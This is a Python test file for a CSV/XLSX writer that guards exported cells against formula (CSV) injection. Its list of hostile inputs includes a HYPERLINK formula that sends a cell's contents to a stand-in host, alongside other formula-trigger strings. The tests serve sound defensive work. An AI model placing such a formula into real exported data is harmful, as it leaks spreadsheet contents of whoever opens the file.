"""The one CSV/XLSX writer: the formula guard (OWASP CSV injection) and its exact inverse."""

from __future__ import annotations

import csv
import io
import math
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tsbkart.exchange.spreadsheet import (
    FORMULA_TRIGGERS,
    csv_text,
    guard,
    needs_guard,
    unguard,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"Klikk")',
    "+47 22 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_neutralised_in_csv(text: str) -> None:
    written = csv_text([["name"], [text]])
    cell = list(csv.reader(io.StringIO(written, newline="")))[1][0]
    assert cell == "'" + text
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert unguard(cell) == text


def test_harmless_text_and_numbers_are_written_as_they_are() -> None:
    rows = [
        ["a", "b", "c", "d", "e", "f"],
        ["Tromsø", 3, -2.5, True, None, date(2026, 1, 2)],
        ["x", math.nan],
    ]
    assert csv_text(rows) == "a,b,c,d,e,f\nTromsø,3,-2.5,true,,2026-01-02\nx,\n"
    assert csv_text([["a"]], line_end="\r\n") == "a\r\n"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_in_xlsx(text: str) -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes({"data": [["name", "beds"], [text, -3]]})))
    sheet = book["data"]
    cell, number = sheet["A2"], sheet["B2"]
    # The value is unchanged (no formula, no apostrophe); XML reads a lone CR back as LF.
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited
    assert number.data_type == "n" and number.value == -3
    assert not sheet["A1"].quotePrefix


@given(st.text())
def test_unguard_inverts_guard(text: str) -> None:
    guarded = guard(text)
    assert unguard(guarded) == text
    assert not guarded.startswith(FORMULA_TRIGGERS)
    assert guarded == text or guarded == "'" + text


@given(st.text())
def test_guarded_text_never_reads_as_a_formula(text: str) -> None:
    assert not needs_guard(guard(text)) or guard(text).startswith("'")
